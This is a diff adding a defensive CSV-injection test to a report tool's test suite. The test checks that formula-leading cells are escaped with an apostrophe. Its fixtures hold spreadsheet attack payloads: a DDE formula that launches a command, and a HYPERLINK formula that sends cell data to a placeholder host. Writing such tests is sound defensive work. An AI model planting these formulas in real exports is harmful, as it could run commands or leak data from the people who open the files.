@@ -204,6 +204,43 @@ def check_errors(llmtune, top, files):
     check(r.returncode == 1, 'no files: exit %d' % r.returncode)
 
 
+FORMULA_HOSTS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(A1:A2)']
+
+
+def check_csv_injection(llmtune, top, bases):
+    """OWASP CSV injection: every cell that starts with =, +, - or @ is written with a leading ',
+    so a spreadsheet shows it as text; the rest of the cell is unchanged. (Tab and CR, the rule's
+    other two, never reach a cell: the report turns control characters in names into '?'.)"""
+    d = os.path.join(top, 'formula')
+    os.makedirs(d)
+    files = []
+    for i, host in enumerate(FORMULA_HOSTS):
+        doc = copy.deepcopy(bases['vm-nogpu'])
+        doc['host'] = host
+        doc['results'][0]['status'] = 'fail'
+        doc['results'][0]['title'] = '=HYPERLINK("http://x.invalid/?"&A1)'
+        files.append(os.path.join(d, '@%d.json' % i))
+        with open(files[-1], 'w') as f:
+            json.dump(doc, f)
+    rule = bases['vm-nogpu']['results'][0]['rule']
+    for extra in ([], ['--by-host']):
+        r = run([llmtune, 'report', '--csv'] + extra + files)
+        if not check(r.returncode == 0, 'report --csv %s on formula hosts exited %d: %s' % (extra, r.returncode, r.stderr.decode())):
+            continue
+        rows = list(csv.reader(io.StringIO(r.stdout.decode(), newline='')))
+        bad = [c for row in rows[1:] for c in row if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
+        check(not bad, 'report --csv %s: cells that start a formula: %r' % (extra, bad[:5]))
+        cells = set(c for row in rows[1:] for c in row)
+        if extra:
+            check(all("'" + h in cells for h in FORMULA_HOSTS), "--by-host: host cells not written as '+host: %r" % sorted(cells))
+            check("'" + files[0] in cells or files[0] in cells, '--by-host: file cell changed: %r' % sorted(cells))
+        else:
+            row = next((x for x in rows if x[0] == rule), None)
+            if check(row is not None, 'report --csv: no row for %s' % rule):
+                check(row[1] == '\'=HYPERLINK("http://x.invalid/?"&A1)', 'title cell %r' % row[1])
+                check(row[9].startswith("'") and len(row[9]) > 1, 'failing_hosts cell %r' % row[9])
+
+
 class GridParser(html.parser.HTMLParser):
     """Counts the grid's header rules, body rows and cells, and any external reference."""
 
@@ -327,6 +364,7 @@ def main():
         else:
             check_csv_table(args.llmtune, files, rep)
             check_errors(args.llmtune, top, files)
+            check_csv_injection(args.llmtune, top, bases)
     finally:
         shutil.rmtree(top, ignore_errors=True)
     for p in failures:
